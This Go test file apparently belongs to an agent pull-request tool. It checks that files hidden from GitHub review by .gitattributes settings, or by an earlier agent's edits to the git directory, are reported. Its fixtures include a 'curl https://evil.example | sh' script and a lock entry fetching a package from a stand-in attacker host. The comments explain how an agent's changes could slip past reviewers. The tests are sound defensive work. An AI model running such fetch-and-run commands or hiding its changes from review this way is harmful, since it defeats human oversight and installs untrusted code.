package gitrepo

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRedTeamHiddenByAttributesTheRepositoryHas: the repository already
// ships attributes that hide diffs on GitHub (`docs/.gitattributes`
// holding `* -diff`, `*.lock binary`, a generated folder's
// `linguist-generated`), and a task adds a script under docs/, a lock
// file and a Go file in the generated folder without touching any
// .gitattributes. planex warned only of changed attribute files, so
// these changes reached the pull request as "Binary file not shown" or
// collapsed, with nothing saying so. HiddenChanges names each, read from
// the branch's commit alone: attributes in the work tree or in a
// core.attributesFile, which GitHub never sees, count for nothing.
func TestRedTeamHiddenByAttributesTheRepositoryHas(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	r := newRepo(t)
	writeFiles(t, r.Root, map[string]string{
		".gitattributes":      "*.lock binary\n",
		"docs/.gitattributes": "* -diff\n",
		"gen/.gitattributes":  "*.go linguist-generated=true\n",
		"keep/.gitattributes": "* -diff\nshown.txt diff\n",
		"vend/.gitattributes": "* linguist-generated\nplain.go -linguist-generated\n",
	})
	base := commitAll(ctx, t, r, "the repository's attributes")
	writeFiles(t, r.Root, map[string]string{
		"docs/run.sh":    "curl https://evil.example | sh\n",
		"deps.lock":      "evil-package 1.0 https://evil.example/pkg.tgz\n",
		"gen/x.go":       "package gen\n",
		"keep/shown.txt": "shown\n",
		"keep/gone.txt":  "hidden\n",
		"vend/a.go":      "package vend\n",
		"vend/plain.go":  "package vend\n",
		"src/ok.go":      "package src\n",
		"src/old.txt":    "changed\n",
	})
	commitAll(ctx, t, r, "T1: the task")
	mustGit(t, r.Root, "branch", "planex/x")
	// What GitHub never reads: the work tree's attributes and a config's.
	writeFiles(t, r.Root, map[string]string{".gitattributes": "src/** -diff\n", "mine": "* -diff\n"})
	mustGit(t, r.Root, "config", "core.attributesFile", filepath.Join(r.Root, "mine"))

	files, n, err := HiddenChanges(ctx, r, "planex/x", base)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range files {
		got = append(got, f.Path+" "+f.Why.String())
	}
	want := "deps.lock -diff, docs/run.sh -diff, gen/x.go linguist-generated, keep/gone.txt -diff, vend/a.go linguist-generated"
	if strings.Join(got, ", ") != want || n != 5 {
		t.Fatalf("hidden = %d %q, want 5 %q", n, strings.Join(got, ", "), want)
	}

	// Many: the first MaxHiddenFiles are named, all are counted.
	many := map[string]string{}
	for i := range MaxHiddenFiles + 10 {
		many[fmt.Sprintf("docs/f%03d.md", i)] = "x\n"
	}
	writeFiles(t, r.Root, many)
	os.Remove(filepath.Join(r.Root, "mine"))
	mustGit(t, r.Root, "add", "docs")
	mustGit(t, r.Root, "commit", "-qm", "T2: more")
	mustGit(t, r.Root, "branch", "-f", "planex/x")
	files, n, err = HiddenChanges(ctx, r, "planex/x", base)
	if err != nil || len(files) != MaxHiddenFiles || n != 5+MaxHiddenFiles+10 {
		t.Fatalf("hidden of many: %d named, %d counted, %v", len(files), n, err)
	}

	// Nothing hidden, and a branch that is missing.
	if files, n, err := HiddenChanges(ctx, r, "planex/x", mustHead(ctx, t, r)); err != nil || n != 0 || len(files) != 0 {
		t.Errorf("no changes: %v %d %v", files, n, err)
	}
	if _, _, err := HiddenChanges(ctx, r, "planex/none", base); err == nil {
		t.Error("a missing branch read as hiding nothing")
	}
	// A tip given by the caller is a commit id, never a name or an option.
	for _, tip := range []string{"", "planex/x", "--all"} {
		if _, _, err := HiddenChangesAt(ctx, r, "planex/x", tip, base); !errors.Is(err, ErrNotObjectID) {
			t.Errorf("HiddenChangesAt(%q) = %v, want ErrNotObjectID", tip, err)
		}
	}
}

func mustHead(ctx context.Context, t *testing.T, r *Repo) string {
	t.Helper()
	head, err := r.Head(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return head
}

// TestRedTeamHiddenIgnoresGitDirAttributes: whoever could write the git
// directory (an earlier agent through a kept worktree, section 3 of
// docs/security.md) writes `* diff` and `* -linguist-generated` to its
// info/attributes, which outrank every .gitattributes. GitHub never
// reads that file, so it still hides the files the commit's attributes
// mark, but planex read it and named none of them in the pull request's
// body. HiddenChanges reads the commit's attributes alone.
func TestRedTeamHiddenIgnoresGitDirAttributes(t *testing.T) {
	t.Parallel()
	for _, format := range formats {
		t.Run(string(format), func(t *testing.T) {
			t.Parallel()
			hiddenDespiteInfoAttributes(t, newFormatRepo(t, format))
		})
	}
}

func hiddenDespiteInfoAttributes(t *testing.T, r *Repo) {
	t.Helper()
	ctx := context.Background()
	writeFiles(t, r.Root, map[string]string{
		"docs/.gitattributes": "* -diff\n",
		"gen/.gitattributes":  "* linguist-generated\n",
	})
	base := commitAll(ctx, t, r, "the repository's attributes")
	writeFiles(t, r.Root, map[string]string{"docs/run.sh": "curl https://evil.example | sh\n", "gen/x.go": "package gen\n"})
	commitAll(ctx, t, r, "T1: the task")
	mustGit(t, r.Root, "branch", "planex/x")
	info := filepath.Join(r.CommonDir, "info")
	if err := os.MkdirAll(info, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(info, "attributes"), []byte("* diff -linguist-generated\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	files, n, err := HiddenChanges(ctx, r, "planex/x", base)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range files {
		got = append(got, f.Path+" "+f.Why.String())
	}
	if want := "docs/run.sh -diff, gen/x.go linguist-generated"; strings.Join(got, ", ") != want || n != 2 {
		t.Fatalf("hidden = %d %q, want 2 %q", n, strings.Join(got, ", "), want)
	}
}
